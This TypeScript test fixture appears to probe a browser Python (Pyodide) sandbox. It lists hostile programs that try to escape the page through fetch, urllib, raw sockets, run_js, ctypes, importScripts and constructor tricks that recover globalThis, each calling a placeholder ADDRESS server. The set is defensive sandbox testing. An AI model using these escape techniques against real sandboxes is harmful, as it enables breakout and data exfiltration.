// Programs that try to get out of the page: to the network, to the page around, to what it has stored. Each prints `reached …` if
// it gets anywhere. `import js` is empty, but a program can find JavaScript's objects behind those that it is given.

const viaJavaScript = (expression: string): string => `
def script():
    import _host
    return _host.tell.constructor(${JSON.stringify(`return (async () => { ${expression} })()`)})
try:
    found = script()()
    print('reached', found)
except BaseException as error:
    print('refused', type(error).__name__)
`

const viaPython = (body: string): string => `
try:
${body.trim().split('\n').map((line) => `    ${line}`).join('\n')}
except BaseException as error:
    print('refused', type(error).__name__)
`

/** ADDRESS is a server that counts what reaches it. */
export const HOSTILE: Record<string, string> = {
  'import js': viaPython('import js\nprint("reached" if [name for name in dir(js) if name in ("fetch", "XMLHttpRequest", "WebSocket", "postMessage", "parent", "self", "importScripts", "caches", "indexedDB")] else "refused")'),
  'js.parent': viaPython('from js import parent\nprint("reached", parent)'),
  'js.fetch': viaPython('from js import fetch\nfetch("ADDRESS")\nprint("reached")'),
  'pyodide.http': viaPython('from pyodide.http import open_url\nopen_url("ADDRESS")\nprint("reached")'),
  'pyodide.http.pyfetch': viaPython('import asyncio\nfrom pyodide.http import pyfetch\nasyncio.run(pyfetch("ADDRESS"))\nprint("reached")'),
  'run_js': viaPython('from pyodide.code import run_js\nrun_js("fetch(\'ADDRESS\')")\nprint("reached")'),
  'micropip': viaPython('import micropip\nprint("reached")'),
  'loadPackage': viaPython('import pyodide_js, asyncio\npyodide_js.loadPackage("ADDRESSx.whl")\nprint("tried")'),
  'pyodide_js.runPython': viaPython('import pyodide_js\npyodide_js._module.API.config.jsglobals.fetch("ADDRESS")\nprint("reached")'),
  'a function made of text': viaJavaScript("await fetch('ADDRESS'); return 'a server'"),
  'urllib': viaPython('import urllib.request\nurllib.request.urlopen("ADDRESS")\nprint("reached")'),
  'a socket': viaPython('import socket\ns = socket.socket()\ns.connect(("127.0.0.1", 1))\nprint("reached")'),
  'the socket module below': viaPython('import _socket\ns = _socket.socket()\ns.connect(("127.0.0.1", PORT))\ns.send(b"GET / HTTP/1.0\\r\\n\\r\\n")\nprint("tried")'),
  'EM_JS through ctypes': viaPython('import ctypes\nlibrary = ctypes.CDLL(None)\nlibrary.emscripten_run_script(b"fetch(\'ADDRESS\')")\nprint("tried")'),
  'the constructor of a proxy': viaPython('import _host\nglobals_ = _host.tell.constructor("return globalThis")()\nglobals_.fetch("ADDRESS")\nprint("reached")'),
  'importScripts': viaPython('import pyodide_js\nf = pyodide_js.loadPackage.constructor\nf("importScripts(\'ADDRESS\')")()\nprint("reached")'),
}
